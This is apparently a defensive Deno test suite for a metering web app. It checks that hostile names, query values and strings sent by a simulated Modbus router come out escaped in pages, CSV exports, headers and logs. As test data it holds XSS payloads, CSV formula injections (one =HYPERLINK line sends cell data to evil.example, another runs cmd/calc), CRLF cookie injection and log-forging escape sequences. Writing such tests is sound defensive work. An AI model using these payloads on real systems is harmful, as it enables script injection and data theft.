/**
 * Attacks by texts that come out again: names of sites, meters, people, groups and tokens, what somebody types, and
 * what a router says over Modbus, in pages, files, headers and the log.
 *
 * @module
 */

import { deepStrictEqual, doesNotMatch, match, ok, strictEqual, throws } from "node:assert/strict";
import { channelsOf, profileOf } from "../../lib/profiles/mod.ts";
import { createGroup } from "../../lib/store/groups.ts";
import { registerSites } from "../../lib/store/sites.ts";
import { createUser } from "../../lib/store/users.ts";
import { draftOf, meter, siteSpec } from "../collector/simulated.ts";
import { authorAt } from "../fakes/author.ts";
import { type Peer, startPeer, wordsFrame } from "../fakes/modbus_peer.ts";
import { type Answer, ask, FIRST, type Flow, post, withFlow } from "../flows/running_product.ts";
import { makeVisitor, signInAs, type Visitor } from "../flows/visitors.ts";
import { placeOf } from "../routes/places.ts";
import { type Attack, withstand } from "./attack.ts";

interface Scene {
  readonly flow: Flow;
  readonly admin: Visitor;
  /** The site whose router is hostile. */
  readonly hostile: number;
}

/** Names that are scripts in one place or another. */
const NAMES = {
  site: '</title></script><script>alert("site")</script>',
  meter: '"><img src=x onerror=alert("meter")>',
  gateway: '=HYPERLINK("http://evil.example?"&A1,"x")',
  formula: "@SUM(1+1)*cmd|' /C calc'!A0",
  person: "<svg/onload=alert(1)> '\"`",
  group: "<iframe srcdoc='<script>alert(1)</script>'>",
} as const;

/** What the router says in the registers of a RUT; each has 32 bytes. */
const SAID: readonly (readonly [number, string])[] = [
  [7, "</script><script>alert(1)"],
  [23, '<img src=x onerror="alert(2)">'],
  [39, '=cmd|"/C calc"!A0'],
  [87, "sim1\r\nSet-Cookie: a=b"],
  [103, "\u001b[31m\u202ereversed"],
  [119, "'\"><svg/onload=alert(3)>"],
];

function startHostile(): Promise<Peer> {
  const words = new Uint16Array(65_536);
  for (const [address, text] of SAID) {
    const bytes = new TextEncoder().encode(text.padEnd(32, "\0")).slice(0, 32);
    for (let n = 0; n < 16; n++) words[address + n] = ((bytes[2 * n] ?? 0) << 8) | (bytes[2 * n + 1] ?? 0);
  }
  return startPeer((request) =>
    wordsFrame(request, [...words.subarray(request.address, request.address + request.count)])
  );
}

const look = ({ flow, admin }: Scene, path: string): Promise<Answer> =>
  ask(flow.origin, path, { headers: { cookie: admin.cookie } });

/** The tags of a page as a browser finds them, the values of their attributes left out. */
function tagsOf(text: string): readonly string[] {
  const page = text.replaceAll(/(<script\b[^>]*>).*?<\/script>/gs, "$1");
  return [...page.matchAll(/<[a-z/!](?:"[^"]*"|'[^']*'|[^>"'])*>/gi)].map(([tag]) =>
    tag.replaceAll(/"[^"]*"|'[^']*'/g, '""')
  );
}

/** Fails where a text of ours could run in a page. */
function harmless({ text, headers }: Answer, path: string): void {
  match(headers.get("content-type") ?? "", /^text\/html/, path);
  for (const tag of tagsOf(text)) {
    doesNotMatch(tag, /[\s/"](on[a-z]+|srcdoc|style)\s*=/i, path);
    doesNotMatch(tag, /^<(img|iframe|object|embed|base|meta http|svg\/)[\s/>]?/i, path);
  }
  doesNotMatch(text, /(href|src|action)="\s*javascript:/i, path);
  for (const [, tag = "", code = ""] of text.matchAll(/<script\b([^>]*)>(.*?)<\/script>/gs)) {
    match(tag, /nonce="[0-9a-f]{32}"/, path);
    doesNotMatch(code, /<\/?[a-z!]|^\s*alert/i, path);
  }
}

/** The cells of a file of comma-separated values. */
function cellsOf(text: string): readonly string[] {
  const cells = [...text.matchAll(/(?:^|,|\r\n)("(?:[^"]|"")*"|[^,\r\n]*)/g)].map(([, cell = ""]) => cell);
  return cells.map((cell) => cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
}

/** Fails where a spreadsheet would take a cell for a formula; numbers are numbers. */
function plainCells(text: string, path: string): void {
  for (const cell of cellsOf(text.replace(/^\ufeff/, ""))) {
    ok(/^-?\d+(\.\d+)?$/.test(cell) || !/^\s*[=+\-@\t\r]/.test(cell), `${path}: ${JSON.stringify(cell)}`);
  }
}

const pagesOf = ({ flow, hostile }: Scene) => [
  "/",
  "/sites",
  `/sites/${flow.siteIds[0]}`,
  `/sites/${hostile}`,
  "/admin/people",
  "/admin/people/invite",
  "/admin/groups",
  "/admin/groups/1",
  "/admin/audit",
  "/admin/mail",
  "/admin/networks",
  ...["security", "bans", "scan", "backups"].map((page) => `/admin/${page}`),
  "/account",
  "/account/email",
  "/account/second-factor",
  "/account/tokens",
  "/account/tokens/new",
];

const PAGES: readonly Attack<Scene>[] = [
  {
    wants: "run a script by the name of a site, a meter, a person or a group: every page shows it as text",
    async holds(scene) {
      let shown = "";
      for (const path of pagesOf(scene)) {
        const answer = await look(scene, path);
        strictEqual(answer.status, 200, path);
        harmless(answer, path);
        shown += answer.text;
      }
      for (const name of ["&lt;/title", "&lt;svg/onload", "&lt;iframe srcdoc"]) {
        ok(shown.includes(name), name);
      }
    },
  },
  {
    wants: "run a script by what a router says over Modbus: the site's page shows it as text",
    async holds(scene) {
      const answer = await look(scene, `/sites/${scene.hostile}`);
      harmless(answer, "the site");
      ok(answer.text.includes("&lt;img src=x"), "what the router said is shown");
    },
  },
  {
    wants: "run a script by what a router says while it is read now: the page shows it as text",
    async holds(scene) {
      const { flow, admin, hostile } = scene;
      for (const id of [hostile, flow.siteIds[0] ?? 0]) {
        const device = id === hostile ? await routerOf(flow, id) : (await placeOf(flow, id)).device;
        const path = `/sites/${id}/devices/${device}/read`;
        const answer = await flow.settle(post(flow.origin, path, {}, { cookie: admin.cookie }));
        strictEqual(answer.status, 200);
        harmless(answer, path);
        if (id === hostile) ok(answer.text.includes("&lt;img src=x"), "what the router said is shown");
      }
    },
  },
  {
    wants: "run a script by a link to us with something in it: what comes back is text",
    async holds(scene) {
      const { flow, admin } = scene;
      for (
        const name of [...Object.values(NAMES), "javascript:alert(1)", "'-alert(1)-'", "{{7*7}}", "${7*7}"]
      ) {
        const q = encodeURIComponent(name);
        const cookie = await signInAs(flow, admin.user.email); // lately there: some pages ask for that
        const paths = [
          `/sites?q=${q}`,
          `/sites?state=${q}&sort=${q}&order=${q}&page=${q}`,
          `/admin/people?q=${q}&role=${q}`,
          `/admin/audit?q=${q}&actor=${q}&action=${q}&from=${q}`,
          `/sites/${flow.siteIds[0]}?range=${q}&day=${q}`,
          `/admin/networks?saved=${q}`,
          `/admin/security?saved=${q}`,
          `/${q}`,
          `/${q}?${q}=${q}`,
        ];
        for (const path of paths) {
          harmless(await look({ ...scene, admin: { ...admin, cookie } }, path), path);
        }
        harmless(await ask(flow.origin, `/sign-in?back=${q}`), "sign-in");
        const form = { email: name, password: "x", back: "/" };
        harmless(await post(flow.origin, "/sign-in", form), "sign-in");
        const invite = { email: name, name, role: name, reach: "all", find: name, do: "save" };
        harmless(await post(flow.origin, "/admin/people/invite", invite, { cookie }), "invite");
        await flow.clock.advance(600_000);
      }
    },
  },
  {
    wants: "have an answer of the API taken for a page: it is JSON, and no browser may guess",
    async holds({ flow, admin }) {
      const headers = { authorization: `Bearer ${admin.token}` };
      for (
        const path of ["/sites", `/sites/${flow.siteIds[0]}`, "/%3Cscript%3E", "/sites?search=%3Cscript%3E"]
      ) {
        const answer = await ask(flow.origin, `/api/v1${path}`, { headers });
        match(answer.headers.get("content-type") ?? "", /^application\/(problem\+)?json/);
        strictEqual(answer.headers.get("x-content-type-options"), "nosniff");
        match(answer.headers.get("content-security-policy") ?? "", /default-src 'none'/);
      }
    },
  },
];

async function routerOf({ opened }: Flow, siteId: number): Promise<number> {
  const row = await opened.db.kysely.selectFrom("meter").select("meter_id").where("site_id", "=", siteId)
    .executeTakeFirstOrThrow();
  return row.meter_id;
}

const FILES: readonly Attack<Scene>[] = [
  {
    wants:
      "have a spreadsheet run a formula out of the name of a site or a meter: it is led by an apostrophe",
    async holds(scene) {
      const { flow } = scene;
      for (const path of ["/completeness.csv", `/sites/${flow.siteIds[0]}/half-hours.csv`]) {
        const answer = await look(scene, path);
        strictEqual(answer.status, 200, path);
        match(answer.headers.get("content-type") ?? "", /^text\/csv/);
        match(answer.headers.get("content-disposition") ?? "", /^attachment; filename="[a-z0-9.-]+"$/);
        plainCells(answer.text, path);
      }
    },
  },
  {
    wants: "have a spreadsheet run a formula that a router said: it is led by an apostrophe",
    async holds({ flow, admin, hostile }) {
      const headers = { authorization: `Bearer ${admin.token}` };
      const span = "from=2026-11-02&to=2026-11-03";
      const own = `site=${flow.siteIds[0]}&quantity=importWh&${span}`;
      const said = `/readings?site=${hostile}&quantity=serial&${span}&format=csv`;
      const paths = [
        said,
        `/readings?${own}&format=csv`,
        `/interval-readings?${own}&format=csv`,
        `/interval-readings?${own}&format=wide`,
      ];
      for (const path of paths) {
        const answer = await ask(flow.origin, `/api/v1${path}`, { headers });
        strictEqual(answer.status, 200, answer.text);
        match(answer.headers.get("content-type") ?? "", /^text\/csv/);
        plainCells(answer.text, path);
        if (path === said) ok(answer.text.includes("'=cmd"), "what the router said is there");
      }
    },
  },
  {
    wants: "have a spreadsheet run a formula out of the audit trail: it is led by an apostrophe",
    async holds(scene) {
      await post(scene.flow.origin, "/sign-in", { email: "=1+1@wattpost.example", password: "x", back: "/" });
      const by = authorAt(scene.flow.clock.nowMs(), { seal: scene.flow.opened.keys.seal, actor: "+cmd|x" });
      ok((await createGroup(scene.flow.opened.db, by, { name: "=1+1" })).ok);
      const answer = await look(scene, "/admin/audit.csv");
      strictEqual(answer.status, 200);
      ok(answer.text.includes("'+cmd"), "it is there");
      plainCells(answer.text, "/admin/audit.csv");
    },
  },
  {
    wants:
      "set a cookie or change a file's name by the name of a site: headers hold letters and digits of it alone",
    async holds({ flow, admin }) {
      const [site] = flow.sites;
      if (!site) throw new Error("There is no site");
      const name = 'a"; filename="x.exe"\r\nSet-Cookie: a=b\u202e../../';
      const ids = await registerSites(flow.opened.db, [draftOf(site, { name, since: FIRST + 5 })]);
      if (!ids.ok) throw new Error(ids.error.kind);
      const { headers } = await ask(flow.origin, `/sites/${ids.value[0]}/half-hours.csv`, {
        headers: { cookie: admin.cookie },
      });
      strictEqual(headers.get("set-cookie"), null);
      match(headers.get("content-disposition") ?? "", /^attachment; filename="[a-z0-9-]+\.csv"$/);
    },
  },
];

const LOG: readonly Attack<Scene>[] = [
  {
    wants: "forge a line of the log, or turn what is read around, by what is asked for: signs are escaped",
    async holds({ flow, admin }) {
      const before = flow.lines.length;
      const paths = [
        "/x%0a%7B%22level%22:%22error%22,%22msg%22:%22forged%22%7D",
        "/x%1b%5B2J%E2%80%AEdrow",
        "/x%00%0d%0a",
        `/${"a".repeat(4_000)}`,
      ];
      for (const path of paths) {
        const headers = {
          cookie: admin.cookie,
          "user-agent": "\u009b31mx",
          referer: `${flow.origin}/%0aforged`,
        };
        await ask(flow.origin, path, { headers });
      }
      const lines = flow.lines.slice(before);
      ok(lines.length >= paths.length);
      for (const line of lines) {
        strictEqual(line["msg"], "Answered");
        for (const value of Object.values(line)) {
          doesNotMatch(String(value), /[\p{Cc}\u202a-\u202e\u2066-\u2069]/u);
          ok(String(value).length <= 2_200);
        }
      }
    },
  },
  {
    wants: "write into the log by what a router says: it is not there, or as plain text",
    holds({ flow }) {
      for (const line of flow.lines) doesNotMatch(JSON.stringify(line), /\\u001b|\u202e|\\r\\n|Set-Cookie/);
      return Promise.resolve();
    },
  },
];

const SPEC = siteSpec({
  name: NAMES.site,
  endpoints: [
    { port: 0, kind: "gateway", meters: [meter(1, "eastron-sdm630", { name: NAMES.meter })] },
    { port: 0, kind: "device", meters: [meter(1, "schneider-iem3000", { name: NAMES.gateway })] },
    { port: 0, kind: "device", meters: [meter(1, "schneider-iem3000", { name: NAMES.formula })] },
  ],
});

/** Registers a site with nothing but a router that means harm. */
async function registerHostile(flow: Flow, peer: Peer): Promise<number> {
  const [site] = flow.sites;
  const draft = draftOf(site ?? raise(), { name: NAMES.formula, since: FIRST });
  const router = siteSpec().endpoints[2]?.meters[0] ?? raise();
  const profile = profileOf(router.profileId) ?? raise();
  const ids = await registerSites(flow.opened.db, [{
    ...draft,
    paths: [{ kind: "cellular", host: "127.0.0.1" }],
    endpoints: [{
      port: peer.port,
      kind: "router",
      meters: [{
        name: NAMES.meter,
        unitId: 1,
        profileId: router.profileId,
        profileVersion: profile.version,
        endUse: null,
        wholeSite: false,
        maxPowerW: null,
        transformer: null,
        channels: channelsOf(profile),
      }],
    }],
  }]);
  if (!ids.ok) throw new Error(ids.error.kind);
  return ids.value[0] ?? 0;
}

function raise(): never {
  throw new Error("What the test begins with is not there");
}

const FOUND = { name: "AssertionError" };

Deno.test("what looks for scripts and formulas finds them", () => {
  const headers = new Headers({ "content-type": "text/html" });
  const pages = [
    ...Object.values(NAMES).filter((name) => name.includes("<")).map((name) => `<p>${name}</p>`),
    `<input value="${NAMES.meter}">`,
    `<a href="javascript:alert(1)">x</a>`,
    `<b onmouseover="x">`,
  ];
  for (const text of pages) throws(() => harmless({ status: 200, headers, text }, text), FOUND);
  const shown = NAMES.meter.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
  harmless({ status: 200, headers, text: `<input value="${shown}"><p>${shown}</p>` }, shown);
  for (const text of ["=1+1", 'a,"=1"', "a\r\n@x", "-x"]) throws(() => plainCells(text, text), FOUND);
  plainCells("a,-5,'=1\r\n", "plain");
});

Deno.test("attacks by texts that come out again", async (t) => {
  const peer = await startHostile();
  try {
    await withFlow({ specs: [SPEC] }, async (flow) => {
      const admin = await makeVisitor(flow, { name: "admin", role: "administrator" });
      const by = authorAt(flow.clock.nowMs(), { seal: flow.opened.keys.seal });
      ok((await createGroup(flow.opened.db, by, { name: NAMES.group })).ok);
      const draft = { email: "x@wattpost.example", name: NAMES.person, passwordHash: "x" };
      ok((await createUser(flow.opened.db, { ...draft, role: "viewer", nowMs: flow.clock.nowMs() })).ok);
      const hostile = await registerHostile(flow, peer);
      await flow.collect(FIRST + 1);
      ok(peer.requests.length > 0, "the router was read");
      // Some pages of the account are for somebody who was there lately alone.
      const cookie = await signInAs(flow, admin.user.email);
      for (const attacks of [LOG, PAGES, FILES]) {
        await withstand(t, { flow, admin: { ...admin, cookie }, hostile }, attacks);
      }
      await t.step("nothing of it was an error of ours", () => {
        deepStrictEqual(flow.lines.filter(({ level }) => level === "error"), []);
      });
    });
  } finally {
    await peer.close();
  }
});
